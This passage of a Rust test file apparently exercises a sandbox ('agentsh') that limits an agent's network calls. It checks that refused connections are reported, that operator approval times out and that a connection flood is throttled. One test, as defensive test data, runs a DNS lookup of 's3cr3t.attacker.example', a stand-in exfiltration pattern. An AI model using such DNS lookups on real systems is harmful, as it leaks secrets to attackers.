    c = socket.socket()
    r = c.connect_ex((\"{ALLOWED}\", {port}))
    if r == errno.EAGAIN:
        again.append(r)
ts = [threading.Thread(target=go, daemon=True) for _ in range(340)]
[t.start() for t in ts]
done = threading.Event()
while not done.wait(0.05):
    if len(again) >= 40:
        break
print(\"EAGAIN\", len(again))
sys.stdout.flush()
os._exit(0)
'"
    ));
    let n: usize = f
        .stdout
        .split_whitespace()
        .nth(1)
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{f:?}"));
    assert!(n >= 40, "{f:?}");
    assert!(s
        .srv
        .log()
        .contains("blocking network calls of this tree already in flight"));
    // The server still serves the next command.
    let f = s.sh("echo still-served");
    assert!(f.stdout.contains("still-served"), "{f:?}");
}

/// Every refused destination is explained on the caller's stderr, once per
/// thread and destination (issue 41): the line names the call, where it
/// went and the rule; a call held for an operator says it waits (the
/// approval's id, for how long), then why it was refused.
#[test]
fn a_refused_destination_is_explained_once_on_the_callers_stderr() {
    if !require_root("a_refused_destination_is_explained_once_on_the_callers_stderr") {
        return;
    }
    let (_udp, uport) = udp_listener();
    for config in ["", "execve:\n  backend: ptrace\n"] {
        let mut s = Sandbox::with_config(AGENT_STRICT, Some(NOBODY), config);
        let f = s.sh(&format!(
            "python3 -c '
import socket
for _ in range(3):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b\"x\", (\"127.0.0.1\", {uport}))
    except PermissionError: pass
    socket.socket().connect_ex((\"127.0.0.1\", 443))
print(\"done\")
'"
        ));
        assert!(f.stdout.contains("done"), "{f:?}");
        let udp_line = format!("agentsh: sendto to 127.0.0.1 port {uport}/udp denied (rule ");
        assert_eq!(f.stderr.matches(&udp_line).count(), 1, "{config:?}: {f:?}");
        assert_eq!(
            f.stderr
                .matches("agentsh: connect to 127.0.0.1 port 443/tcp denied (rule ")
                .count(),
            1,
            "{config:?}: {f:?}"
        );
    }
    // agent-default asks an operator about a destination no rule names.
    let mut s = Sandbox::with_config(AGENT_DEFAULT, None, "execve:\n  approval_timeout: 1s\n");
    let f = s.sh("python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b\"x\", (\"192.0.2.7\", 9))
except PermissionError as e: print(\"REFUSED\", e.errno)
'");
    assert!(f.stdout.contains("REFUSED 13"), "{f:?}");
    assert!(
        f.stderr.contains("agentsh: waiting for approval ")
            && f.stderr
                .contains(" of sendto to 192.0.2.7 port 9/udp (up to 1 s)"),
        "{f:?}"
    );
    assert!(
        f.stderr
            .contains("agentsh: sendto to 192.0.2.7 port 9/udp denied (rule ")
            && f.stderr.contains("timed out after 1 s"),
        "{f:?}"
    );
    // A name the DNS stub refuses: said once, however often the resolver
    // asks (A, AAAA, retries).
    let f = s.sh("getent hosts s3cr3t.attacker.example; echo rc=$?");
    assert!(f.stdout.contains("rc=2"), "{f:?}");
    assert_eq!(
        f.stderr
            .matches("agentsh: DNS lookup of s3cr3t.attacker.example refused (rule default)")
            .count(),
        1,
        "{f:?}"
    );
}
